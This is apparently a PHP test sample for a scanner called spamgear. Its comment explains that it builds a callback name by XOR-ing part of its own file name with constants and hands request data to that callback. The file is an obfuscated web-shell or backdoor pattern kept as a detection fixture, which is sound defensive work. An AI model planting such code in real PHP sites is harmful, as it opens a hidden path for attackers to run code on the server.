<?php
// spamgear test sample: a callback name made by XOR of a character of the
// file's own name with a constant: it cannot be told, but nothing else
// builds a name so, and request data is handed to it.
$seed = substr(__FILE__, -5, -4) . 'xyzab';
$fn = $seed ^ "\x12\x10\x1f\x04\x01\x07";
array_intersect_uassoc(array($_REQUEST['k'] => ''), array(1), $fn);
